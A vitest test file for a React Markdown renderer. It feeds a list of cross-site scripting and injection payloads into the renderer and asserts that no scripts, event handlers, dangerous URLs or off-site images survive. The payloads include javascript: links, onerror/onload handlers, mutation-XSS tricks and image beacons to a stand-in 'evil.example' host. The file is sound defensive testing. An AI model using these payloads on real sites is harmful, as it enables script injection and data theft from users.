import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { takeTexts } from '../../text/i18n.ts'
import english from '../../locales/en.json'
import { Markdown } from './markdown.tsx'

takeTexts(english)

function render(source: string): string {
  return renderToStaticMarkup(<Markdown source={source} />)
}

/** Every element and attribute of the output, read from its tags; text is escaped and so never looks like one. */
function anatomy(html: string): { tags: Set<string>; attributes: Map<string, string[]> } {
  const tags = new Set<string>()
  const attributes = new Map<string, string[]>()
  for (const [, tag = '', rest = ''] of html.matchAll(/<([a-z][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/gi)) {
    tags.add(tag.toLowerCase())
    for (const [, name = '', value = ''] of rest.matchAll(/([\w:-]+)(?:="([^"]*)")?/g)) {
      attributes.set(name.toLowerCase(), [...(attributes.get(name.toLowerCase()) ?? []), value])
    }
  }
  return { tags, attributes }
}

const attacks = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\x01javascript:alert(1))',
  '[x](vbscript:msgbox)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/p?d=secret)',
  '![x](//evil.example/p)',
  '![x](\\\\evil.example\\p)',
  '![x](/\\evil.example/p)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x][r]\n\n[r]: https://evil.example/p',
  '<img src=x onerror=alert(1)>',
  'a <img src=https://evil.example/p> b',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<script>alert(1)</script>',
  '<style>*{background:url(//evil.example)}</style>',
  '<p style="background:url(//evil.example)">x</p>',
  '<iframe src="//evil.example"></iframe>',
  '<form action="//evil.example"><input name=a></form>',
  '<base href="//evil.example">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<a href="javascript:alert(1)" target=_top>x</a>',
  '<b onclick=alert(1)>x</b>',
  '<b>**[x](javascript:alert(1))**</b>',
  '> - <b><i><img src=x onerror=alert(1)></i></b>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<template><img src=x onerror=alert(1)></template>',
]

describe('what a model writes cannot act', () => {
  test.each(attacks)('%s', (source) => {
    const { tags, attributes } = anatomy(render(source))
    for (const tag of [
      'script',
      'style',
      'iframe',
      'form',
      'base',
      'meta',
      'object',
      'embed',
      'link',
      'math',
      'details',
      'template',
      'noscript',
    ]) {
      expect(tags).not.toContain(tag)
    }
    expect(
      [...attributes.keys()].filter(
        (name) => name.startsWith('on') || name === 'style' || name === 'action' || name === 'srcdoc',
      ),
    ).toEqual([])
    for (const href of attributes.get('href') ?? []) expect(href).toMatch(/^(https?|mailto):/)
    for (const src of attributes.get('src') ?? []) expect(src).toMatch(/^http:\/\/localhost\//)
  })
})

describe('markdown', () => {
  test('links open apart and tell nothing of where they were', () => {
    expect(render('[a](https://example.org/x)')).toContain(
      '<a href="https://example.org/x" target="_blank" rel="noopener noreferrer">a</a>',
    )
  })
  test('images of this service are shown, of others only their address', () => {
    expect(render('![plan](/api/files/fil_1/preview)')).toContain('src="http://localhost/api/files/fil_1/preview"')
    expect(render('![plan](https://evil.example/p.png)')).toContain('https://evil.example/p.png')
  })
  test('a tag without attributes that markdown lacks is kept, everything else is shown as written', () => {
    expect(render('H<sub>2</sub>O <kbd>Esc</kbd><br>x')).toBe(
      '<div class="markdown"><p>H<sub>2</sub>O <kbd>Esc</kbd><br/>x</p></div>',
    )
    expect(render('<sub>open')).toContain('&lt;sub&gt;open')
  })
  test('character references are read, and shown in code', () => {
    expect(render('a &lt; b &amp; c &mdash; `&lt;`')).toContain('a &lt; b &amp; c — <code>&amp;lt;</code>')
  })
  test('tables, tasks, headings and code', () => {
    const html = render('# T\n\n- [x] done\n\n| n |\n|--:|\n| 1 |\n\n```sh\nls\n```')
    expect(html).toContain('<h3 data-depth="1">T</h3>')
    expect(html).toContain('type="checkbox"')
    expect(html).toContain('data-align="right">1</td>')
    expect(html).toContain('>sh<')
  })
})
